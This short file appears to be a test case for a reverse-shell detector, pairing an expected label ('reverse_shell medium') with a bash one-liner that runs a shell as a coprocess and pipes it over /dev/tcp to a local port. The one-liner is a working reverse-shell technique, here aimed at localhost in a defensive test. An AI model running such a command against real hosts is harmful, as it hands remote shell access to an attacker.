# about: bash runs the shell as a coprocess, and two cats copy between it and the connection
# expect: reverse_shell medium
# needs: python3
proven 4512
timeout 6 bash -c 'coproc sh 2>&1; exec 6<&${COPROC[0]} 7>&${COPROC[1]} 5<>/dev/tcp/127.0.0.1/4512; cat <&5 >&7 & cat <&6 >&5' || true
answered
